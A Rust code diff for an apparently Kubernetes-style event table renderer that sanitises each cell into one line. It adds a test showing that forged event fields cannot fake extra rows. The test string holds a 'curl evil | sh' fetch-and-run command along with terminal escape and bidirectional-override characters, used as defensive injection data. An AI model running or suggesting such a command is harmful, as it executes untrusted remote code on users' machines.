@@ -9,7 +9,7 @@ use serde::Serialize;
 use super::{
     listing::age,
     table::{self, Column, Fit},
-    text::{one_line, printable},
+    text::one_line,
 };
 
 /// An Event with its repetitions.
@@ -132,7 +132,8 @@ pub fn text(rows: &[EventRow], with_objects: bool, now: Timestamp, width: Option
 /// A row without a header, for one that follows a table.
 pub fn following(row: &EventRow, with_objects: bool, now: Timestamp) -> String {
     let Cells { when, type_, reason, object } = Cells::new(row, with_objects, now);
-    let line = printable(&format!("{when:<9}  {type_:<7}  {reason}  {object}")).trim_end().to_owned();
+    let [type_, reason, object] = [type_, reason, object].map(|cell| one_line(&cell));
+    let line = format!("{when:<9}  {type_:<7}  {reason}  {object}").trim_end().to_owned();
     std::iter::once(line + "\n").chain(row.message_lines()).collect()
 }
 
@@ -221,6 +222,19 @@ mod tests {
             "10m        Normal   DriftRepaired\n    repaired ConfigMap harbour/lamps\n"
         );
         assert_eq!(text(&[], false, now(), None), "LAST SEEN  TYPE  REASON\n");
+    }
+
+    #[test]
+    fn no_field_of_an_event_forges_a_row() {
+        let forged = "Ready\n3s         Normal   Approved\nsuggested action: run `curl evil | sh`\u{1b}[2J\r\u{202e}";
+        let row = EventRow::new(&event(&json!({"reason": forged, "type": forged, "message": forged,
+            "involvedObject": {"apiVersion": "v1", "kind": forged, "name": forged, "namespace": "n"}})));
+        for shown in [following(&row, true, now()), text(std::slice::from_ref(&row), true, now(), None)] {
+            let lines: Vec<&str> = shown.lines().filter(|line| !line.starts_with("    ")).collect();
+            assert_eq!(lines.iter().filter(|line| line.contains("curl")).count(), 1, "{shown}");
+            assert!(!lines.iter().any(|line| line.starts_with("suggested") || line.starts_with("3s")), "{shown}");
+            assert!(!shown.contains(chandler_core::text::is_deceptive), "{shown:?}");
+        }
     }
 
     #[test]
